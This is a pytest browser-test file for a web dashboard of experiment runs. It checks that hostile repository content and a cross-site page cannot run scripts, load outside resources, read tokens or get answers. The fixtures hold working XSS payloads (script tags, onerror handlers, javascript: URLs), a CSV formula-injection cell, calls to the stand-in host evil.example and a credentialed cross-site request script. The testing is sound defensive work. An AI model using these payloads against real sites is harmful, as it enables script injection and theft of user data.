"""A hostile repository and a hostile site, in a real browser: nothing of them executes, asks anybody, or gets an answer."""

from __future__ import annotations

import json
import threading
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest
from browser import is_elsewhere, serving, wait_until
from repository import Repo
from sampled import sampled_values

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from browser import Served
    from playwright.sync_api import Page

SCRIPT = "document.title='owned';fetch('/api/runs');fetch('http://evil.example/')"
EVIL = f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">\u202e\x1b]0;t\x07javascript:{SCRIPT}'
KINDS = ("text/html", "application/javascript", "text/plain", "image/svg+xml")
NOTEBOOK = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
    {"cell_type": "markdown", "metadata": {}, "source": [EVIL]},
    {"cell_type": "code", "metadata": {}, "source": ["1"], "execution_count": 1, "outputs": [
        {"output_type": "display_data", "metadata": {}, "data": dict.fromkeys(KINDS, EVIL)}]},
]}  # fmt: skip
FILES = {
    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{SCRIPT}</script>'
    '<image href="http://evil.example/x.png"/><rect width="9" height="9"/></svg>',
    "evil.html": f'<title>quiet</title><link rel="stylesheet" href="http://evil.example/x.css"><p id="p">words</p>'
    f'<script>{SCRIPT}</script><img src="http://evil.example/x.png"><form action="http://evil.example"><button>go</button></form>',
    "evil.js": SCRIPT,
    "evil.md": EVIL,
    "evil.csv": f'a,b\n"=cmd()","{EVIL}"\n'.replace('"<', "<"),
    "evil.ipynb": json.dumps(NOTEBOOK),
}
NAME = "<img src=x onerror=owned()>.txt"
PROGRAM = f"""\
import gitrun
lr = "a"
gitrun.log({{{EVIL!r}: 1.0, "loss": 0.5}}, step=1)
gitrun.log({{{EVIL!r}: 2.0, "loss": 0.25}}, step=2)
print({EVIL!r})
for name, text in {FILES!r}.items():
    open(name, "w").write(text)
open({NAME!r}, "w").write("x")
"""


@pytest.fixture(scope="module")
def hostile(browsing_home, tmp_path_factory) -> Iterator[tuple[Served, list[str]]]:
    """A server of runs all of whose words would like to be more than words, and the ids of the runs."""
    repo = Repo.create(tmp_path_factory.mktemp("hostile") / "repo")
    program = "<b>evil.py"
    repo.write(program, PROGRAM)
    repo.commit(EVIL.replace("\x1b", ""))
    for number in range(2):
        repo.run(program, f"lr={EVIL}{number}", "--label", f"{EVIL}{number}", "--tag", "<i>t", "--comment", EVIL, check=True)
    repo.run("--", "sh", "-c", f": '{SCRIPT}' \"<script>\"", check=True)
    with serving(repo, lasts=True) as server:
        yield server, repo.run("select", "--all", check=True).stdout.split()


def pages(ids: list[str]) -> dict[str, str]:
    """The address of each page about the runs."""
    run, other = ids[1], ids[2]
    tabs = {f"tab {tab}": f"/runs/{run}?tab={tab}" for tab in ("output", "files", "code", "attempts", "lineage")}
    return tabs | {
        "runs": "/", "filter": f"/?q=lr={json.dumps(EVIL[:20])}", "run": f"/runs/{run}", "command": f"/runs/{ids[0]}",
        "compare": f"/compare?r={run},{other}", "diff": f"/diff/{run}/{other}", "base": f"/diff/{run}/base", "live": "/live",
        "lineage": f"/lineage/{run}", "commits": f"/commits?range={'HEAD'}", "evil range": "/commits?range=<script>1</script>",
        "unknown": "/runs/0000", "evil query": "/?sort=<img src=x onerror=owned()>&cols=<b>&sel=<i>",
    }  # fmt: skip


SCRIPTED = """[...document.querySelectorAll("*")].flatMap(node => [...node.attributes]).filter(({ name, value }) => {
  const isAddress = ["href", "src", "action"].includes(name);
  return name.startsWith("on") || isAddress && /^\\s*javascript:/i.test(value);
}).map(({ value }) => value)"""
"""Attributes of a page that are scripts."""
ALWAYS = {"run", "tab output", "tab files", "compare", "diff", "commits", "evil query"}
"""Pages that are opened in each round of the tests; together with the others they take half a minute."""
PAGES = [pytest.param(name, marks=() if name in ALWAYS else pytest.mark.slow) for name in pages(["0", "1", "2"])]


@pytest.mark.parametrize("name", sampled_values(4, PAGES))
def test_words_of_runs_are_words_on_every_page(hostile, open_page, name) -> None:
    server, ids = hostile
    page = open_page(server, pages(ids)[name])
    wait_until(lambda: page.evaluate("document.getElementById('main').textContent.length > 20"))
    assert page.title() != "owned"
    kinds = page.evaluate(
        "[...document.querySelectorAll('script, img, iframe, object, embed, link')].map(n => n.src || n.href || '')"
    )
    assert all(kind.startswith((f"{server.origin}/", "data:", "blob:")) for kind in kinds)
    assert page.evaluate(SCRIPTED) == []


@contextmanager
def window(chromium, server: Served) -> Iterator[tuple[Page, list[str]]]:
    """A page of a new window in which somebody is logged in, and all that leaves it: what its policy stops does not."""
    context = chromium.new_context()
    sent: list[str] = []
    context.on("response", lambda answer: sent.append(answer.url))
    context.on("requestfailed", lambda asked: sent.append(asked.url) if asked.failure != "csp" else None)
    context.request.get(server.url, max_redirects=0)
    yield context.new_page(), sent
    context.close()


def wait_in(page: Page, condition: Callable[[], object]) -> object:
    """Waits as `wait_until`. What happens in a page is known while playwright is asked something."""
    return wait_until(lambda: page.wait_for_timeout(20) or condition())


@pytest.mark.parametrize("name", sampled_values(3, sorted(FILES)))
@pytest.mark.parametrize("query", ["", "?render=1"])
def test_file_opened_by_itself_stays_inert(hostile, chromium, name, query) -> None:
    server, ids = hostile
    with window(chromium, server) as (page, sent):
        page.goto(f"{server.origin}/files/{ids[1]}/{name}{query}", wait_until="load")
        page.wait_for_timeout(100)
        assert page.title() != "owned"
        # chromium asks for an icon by itself
        assert [url for url in sent if "favicon" not in url] == [f"{server.origin}/files/{ids[1]}/{name}{query}"]


ADD_FRAME = """([url, isBoxed]) => {
  document.querySelector("iframe")?.remove();
  const frame = document.createElement("iframe");
  if (isBoxed) frame.setAttribute("sandbox", "");
  frame.src = url;
  document.body.append(frame);
}"""


def test_drawn_html_has_neither_scripts_nor_requests(hostile, chromium) -> None:
    server, ids = hostile
    with window(chromium, server) as (page, sent):
        page.goto(server.origin + "/live")
        page.evaluate(ADD_FRAME, [f"/files/{ids[1]}/evil.html?render=1", True])
        frame = wait_in(page, lambda: next((one for one in page.frames if "render=1" in one.url), None))
        assert frame.locator("#p").text_content() == "words"
        assert frame.title() == "quiet"
        assert not [url for url in sent if is_elsewhere(url, server)]


def test_no_answer_but_drawn_html_can_be_framed(hostile, chromium) -> None:
    server, ids = hostile
    with window(chromium, server) as (page, _):
        page.goto(server.origin + "/live")
        for address in ("/", f"/files/{ids[1]}/evil.svg", f"/files/{ids[1]}/evil.html"):
            page.evaluate(ADD_FRAME, [address, False])
            wait_in(page, lambda: [frame.url.partition("/")[0] for frame in page.frames[1:]] == ["chrome-error:"])


INLINE = """() => {
  const script = document.createElement("script");
  script.textContent = "window.inline = true";
  document.body.append(script);
  setTimeout(() => {
    try { window.evaluated = Function("return 1")(); } catch (error) { window.evaluated = error.name; }
  }, 0);
}"""


def test_policy_refuses_inline_scripts_and_evaluation(hostile, chromium) -> None:
    server, _ = hostile
    with window(chromium, server) as (page, _):
        page.goto(server.origin + "/live")
        page.evaluate(INLINE)
        assert wait_in(page, lambda: page.evaluate("window.evaluated")) == "EvalError"
        assert page.evaluate("window.inline") is None


def test_login_leaves_no_token_in_the_address_or_to_scripts(hostile, chromium) -> None:
    server, _ = hostile
    with window(chromium, server) as (page, _):
        page.goto(server.url)
        assert page.url == server.origin + "/"
        assert page.evaluate("document.cookie") == ""
        (cookie,) = page.context.cookies()
        assert (cookie["httpOnly"], cookie["sameSite"], cookie["expires"]) == (True, "Strict", -1)


ATTACK = """
const results = window.results = {}, settle = (name, value) => { results[name] = value; };
const watched = (name, node) => {
  node.onload = () => settle(name, "answered");
  node.onerror = () => settle(name, "refused");
  return node;
};
const image = watched("image", new Image());
image.src = TARGET + "/static/icon.svg";
const script = watched("script", document.createElement("script"));
script.src = TARGET + "/static/dom.js";
document.body.append(script);
for (const mode of ["cors", "no-cors"]) {
  const asked = fetch(TARGET + "/api/runs", { credentials: "include", mode });
  asked.then(() => settle(mode, "answered"), () => settle(mode, "refused"));
}
const stream = new EventSource(TARGET + "/api/events", { withCredentials: true });
stream.onopen = () => settle("stream", "answered");
stream.onerror = () => settle("stream", "refused");
const frame = document.createElement("iframe");
frame.src = TARGET + "/";
const sink = document.createElement("iframe"), form = document.createElement("form");
sink.name = form.target = "sink";
form.method = "post";
form.action = TARGET + "/api/runs";
document.body.append(frame, sink, form);
form.submit();
"""
TRIES = ("image", "script", "cors", "no-cors", "stream")


@pytest.fixture(params=["127.0.0.1", "localhost"])
def site(request, tmp_path, hostile) -> Iterator[str]:
    """The address of another server of this machine, whose page attacks ours: of the same site, and of another one."""
    server, _ = hostile
    (tmp_path / "attack.js").write_text(ATTACK.replace("TARGET", json.dumps(server.origin)))
    (tmp_path / "index.html").write_text(f"<a id=a href='{server.origin}/'>x</a><script src=attack.js></script>")
    handler = partial(Quiet, directory=str(tmp_path))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        yield f"http://{request.param}:{other.server_port}"
        other.shutdown()
        thread.join()


class Quiet(SimpleHTTPRequestHandler):
    """A server of files that writes no log."""

    def log_message(self, *_: object) -> None:
        """Says nothing."""


def test_another_site_gets_no_answer(hostile, chromium, site) -> None:
    server, _ = hostile
    with window(chromium, server) as (page, _):
        statuses: list[int] = []
        page.on("response", lambda answer: statuses.append(answer.status) if not is_elsewhere(answer.url, server) else None)
        page.goto(site)
        wait_in(page, lambda: len(page.evaluate("window.results")) == len(TRIES))
        assert page.evaluate("window.results") == dict.fromkeys(TRIES, "refused")
        # the frame and the form have answers too, which say no
        wait_in(page, lambda: len(statuses) >= 2)
        assert set(statuses) <= {401, 403, 405}
        # nor does a link of it lead here
        page.click("#a")
        page.wait_for_selector("text=another site leads here")
